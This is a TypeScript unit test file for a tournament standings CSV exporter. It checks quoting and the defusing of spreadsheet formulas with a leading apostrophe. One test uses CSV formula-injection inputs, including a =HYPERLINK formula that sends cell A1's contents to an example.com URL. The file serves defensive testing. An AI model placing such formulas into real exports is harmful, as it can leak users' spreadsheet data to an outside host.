import type { StandingView } from '@empires/contracts';
import { standingsCsv } from './standings-csv';

/** A first-placed active bot with nothing played; each test sets what it writes. */
const standing = (fields: Partial<StandingView>): StandingView => ({
  place: 1,
  entrantId: 'bot-1',
  name: 'random bot 1',
  kind: 'bot',
  status: 'active',
  points: 0,
  tieBreaks: [],
  games: 0,
  wins: 0,
  byes: 0,
  ...fields,
});

describe('standings CSV', () => {
  it('writes a header and one row per entrant, quoting what needs quoting', () => {
    const csv = standingsCsv([
      standing({
        entrantId: 'p1',
        name: 'Smith, "Ace"',
        kind: 'player',
        points: 2.5,
        tieBreaks: [
          { name: 'buchholz', value: 4 },
          { name: 'rating', value: 12.5 },
        ],
        games: 3,
        wins: 2,
      }),
      standing({
        place: 2,
        status: 'withdrawn',
        points: 1,
        tieBreaks: [
          { name: 'buchholz', value: 3 },
          { name: 'rating', value: 0 },
        ],
        games: 2,
        wins: 1,
      }),
    ]);
    expect(csv.split('\r\n')).toEqual([
      'place,entrant_id,name,kind,status,points,buchholz,rating,games,wins,byes',
      '1,p1,"Smith, ""Ace""",player,active,2.5,4,12.5,3,2,0',
      '2,bot-1,random bot 1,bot,withdrawn,1,3,0,2,1,0',
      '',
    ]);
  });

  it('gives text a spreadsheet would run as a formula a leading apostrophe, and leaves numbers be', () => {
    const row = (name: string, tieBreak: number) =>
      standing({ name, tieBreaks: [{ name: 'rating', value: tieBreak }] });
    const [, formula, minus, at] = standingsCsv([
      row('=HYPERLINK("http://example.com/?"&A1,"Click")', -2.5),
      row('-1+1', 0),
      row('@SUM(A1)', 0),
    ]).split('\r\n');
    expect(formula).toBe('1,bot-1,"\'=HYPERLINK(""http://example.com/?""&A1,""Click"")",bot,active,0,-2.5,0,0,0');
    expect(minus).toContain(",'-1+1,");
    expect(at).toContain(",'@SUM(A1),");
  });
});
